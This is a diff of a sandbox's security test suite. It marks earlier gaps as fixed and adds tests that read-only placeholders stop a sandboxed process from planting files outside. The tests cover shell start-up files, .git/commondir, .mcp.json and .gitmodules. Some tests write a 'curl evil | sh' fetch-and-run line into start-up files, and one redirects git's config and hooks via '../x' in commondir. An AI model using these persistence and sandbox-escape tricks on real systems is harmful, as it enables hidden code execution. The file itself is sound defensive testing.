@@ -1,12 +1,14 @@
 import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { spawnSandboxed } from '@nemoclaw/native';
 import { afterEach, describe, expect, it } from 'vitest';
 import {
   type AttackWorld,
   createWorld,
   expectSucceeded,
   inSandbox,
+  launcherPath,
   probeInside,
   probeOutside,
   shippedPolicy,
@@ -87,11 +89,9 @@ describe('git hooks and config', () => {
     expect(result.stderr).toMatch(/busy/i);
   });
 
-  // KNOWN GAP (finding: .git/commondir): a missing file cannot be made read-only without creating
-  // it, and any placeholder commondir (empty file, directory) makes git die outside. Binding the
-  // whole .git read-only breaks git commit (index.lock, HEAD.lock live in .git itself).
-  // it.fails: this turns red as soon as the attack is stopped; flip it to it() then.
-  it.fails('.git/commondir cannot redirect git to a config (and hooks) the sandbox wrote', async () => {
+  // Fixed (finding 4c): a missing .git/commondir gets a read-only placeholder naming the
+  // repository itself ("."), which git outside reads exactly as if the file were missing.
+  it('.git/commondir cannot redirect git to a config (and hooks) the sandbox wrote', async () => {
     // Without touching the read-only .git/config or .git/hooks: git reads config and hooks from
     // $GIT_DIR/commondir when that file exists (the linked-worktree mechanism).
     fresh('commondir');
@@ -162,20 +162,20 @@ describe('shell start-up files (home directory as workdir)', () => {
     expectSucceeded(probeOutside(['write', world.secrets.bashrc, '# changed outside\n'])); // control
   });
 
-  // KNOWN GAP (finding: missing shell start-up files, home as workdir): only directories get
-  // placeholders; an empty placeholder file would change what shells outside read meanwhile (an
-  // empty ~/.bash_profile hides ~/.profile) and would stay behind if the launcher were killed.
-  // it.fails: this turns red as soon as the attack is stopped; flip it to it.each() then.
-  it.fails.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
+  // Fixed (finding 5c): missing start-up files get read-only placeholders with a neutral content
+  // (comments; ~/.bash_profile falls through to what bash reads without it), removed at exit.
+  it.each(['.profile', '.zshrc', '.bash_profile', '.gitconfig'])(
     'a missing ~/%s cannot be created either',
     async (name) => {
       fresh('rc-missing');
       const path = join(world.home, name);
       const attempt = await insideHome(['write', path, 'curl evil | sh\n']);
+      // EROFS (read-only placeholder), or ok when the policy also denies it (masked by /dev/null)
       expect({ outcome: attempt.outcome, created: existsSync(path) }).toEqual({
-        outcome: expect.stringMatching(/^E/),
+        outcome: expect.stringMatching(/^(EROFS|ok)$/),
         created: false,
       });
+      expect((await insideHome(['read', path])).outcome).toBe('ok');
     },
   );
 });
@@ -253,15 +253,108 @@ describe('editor and agent configuration in the workdir', () => {
     expectSucceeded(probeOutside(['mkdir', join(world.workdir, directory)])); // control
   });
 
-  // KNOWN GAP (finding: missing .mcp.json, .gitmodules): files get no placeholder (an empty
-  // .mcp.json is invalid JSON for tools reading it meanwhile, and a killed launcher would leave it).
-  // it.fails: this turns red as soon as the attack is stopped; flip it to it.each() then.
-  it.fails.each([['.mcp.json'], ['.gitmodules']])('a missing %s cannot be created', async (file) => {
+  // Fixed (finding 5c): read-only placeholder files (.mcp.json declaring no servers, an empty
+  // .gitmodules), removed at exit.
+  it.each([['.mcp.json'], ['.gitmodules']])('a missing %s cannot be created', async (file) => {
     fresh('editor-missing-file');
-    await inSandbox(['sh', '-c', `printf x > ${file}; echo "rc=$?"`], {
+    const result = await inSandbox(['sh', '-c', `printf x > ${file}; echo "rc=$?"`], {
       world,
       policy: shippedPolicy('default', world),
     });
+    expect(result.stderr).toMatch(/Read-only file system/);
     expect(existsSync(join(world.workdir, file))).toBe(false);
+    expectSucceeded(probeOutside(['write', join(world.workdir, file)])); // control
+  });
+});
+
+describe('placeholders: invisible in effect outside, shared between sandboxes, never left to the user', () => {
+  /** A sandbox waiting on its stdin; `release(line)` lets it go on, `exited` resolves at exit. */
+  async function waiting(script: string) {
+    const sandbox = spawnSandboxed(
+      shippedPolicy('default', world),
+      ['sh', '-c', `echo ready; read line; ${script}`],
+      {
+        workdir: world.workdir,
+        home: world.home,
+        env: { PATH: '/usr/bin:/bin', HOME: world.home, LANG: 'C.UTF-8' },
+        launcherPath: launcherPath(),
+      },
+    );
+    let stdout = '';
+    let stderr = '';
+    sandbox.stderr?.on('data', (chunk: Buffer) => {
+      stderr += chunk.toString();
+    });
+    await new Promise<void>((resolve, reject) => {
+      sandbox.stdout?.on('data', (chunk: Buffer) => {
+        stdout += chunk.toString();
+        if (stdout.includes('ready')) resolve();
+      });
+      sandbox.exited.then(() => reject(new Error(`sandbox exited early: ${stderr}`)), reject);
+    });
+    return {
+      sandbox,
+      release: async (line = 'go') => {
+        sandbox.stdin?.end(`${line}\n`);
+        const exit = await sandbox.exited;
+        return { exit, stdout, stderr };
+      },
+    };
+  }
+  const created = ['.git/commondir', '.mcp.json', '.gitmodules', '.idea'];
+
+  it('while a sandbox runs, git outside reads the repository as before; user edits outside are kept', async () => {
+    fresh('placeholder-outside');
+    const running = await waiting('true');
+    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true);
+    expect(readFileSync(join(world.workdir, '.git', 'commondir'), 'utf8')).toBe('.\n');
+    expect(JSON.parse(readFileSync(join(world.workdir, '.mcp.json'), 'utf8'))).toEqual({ mcpServers: {} });
+    const git = (args: string[]) =>
+      execFileSync('git', ['-C', world.workdir, ...args], {
+        encoding: 'utf8',
+        stdio: ['ignore', 'pipe', 'pipe'],
+      });
+    expect(git(['rev-parse', '--path-format=absolute', '--git-common-dir']).trim()).toBe(
+      join(world.workdir, '.git'),
+    );
+    git(['-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '--allow-empty', '-qm', 'outside']);
+    expect(git(['log', '--oneline', '-1'])).toMatch(/outside/);
+    writeFileSync(join(world.workdir, '.gitmodules'), '# the user wrote this meanwhile\n');
+    await running.release();
+    for (const name of ['.git/commondir', '.mcp.json', '.idea'])
+      expect(existsSync(join(world.workdir, name))).toBe(false);
+    expect(readFileSync(join(world.workdir, '.gitmodules'), 'utf8')).toBe(
+      '# the user wrote this meanwhile\n',
+    );
+  });
+
+  it('two sandboxes on one workdir: the first to exit leaves the placeholders the other still relies on', async () => {
+    fresh('placeholder-shared');
+    const first = await waiting('true');
+    const second = await waiting(
+      'printf x > .mcp.json; echo "mcp=$?"; mkdir -p .idea/x; echo "idea=$?"; echo ../x > .git/commondir; echo "commondir=$?"',
+    );
+    await first.release();
+    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true); // still in use
+    const attempt = await second.release();
+    expect(attempt.stdout).toMatch(/mcp=[1-9]/);
+    expect(attempt.stdout).toMatch(/idea=[1-9]/);
+    expect(attempt.stdout).toMatch(/commondir=[1-9]/);
+    expect(attempt.stderr).toMatch(/Read-only file system/);
+    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(false); // the last one out
+  });
+
+  it('placeholders a SIGKILLed launcher left behind are adopted and removed by the next sandbox', async () => {
+    fresh('placeholder-killed');
+    const killed = await waiting('true');
+    killed.sandbox.kill('SIGKILL');
+    await killed.sandbox.exited.catch(() => undefined);
+    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(true); // left behind
+    expectSucceeded(await inside(['write', join(world.workdir, 'ordinary-file')])); // a later run
+    for (const name of created) expect(existsSync(join(world.workdir, name))).toBe(false);
+    // the user's own (unmarked) .mcp.json is bound read-only but never removed
+    writeFileSync(join(world.workdir, '.mcp.json'), '{"mcpServers":{}}\n');
+    expect((await inside(['append', join(world.workdir, '.mcp.json'), ' '])).outcome).toBe('EROFS');
+    expect(readFileSync(join(world.workdir, '.mcp.json'), 'utf8')).toBe('{"mcpServers":{}}\n');
   });
 });
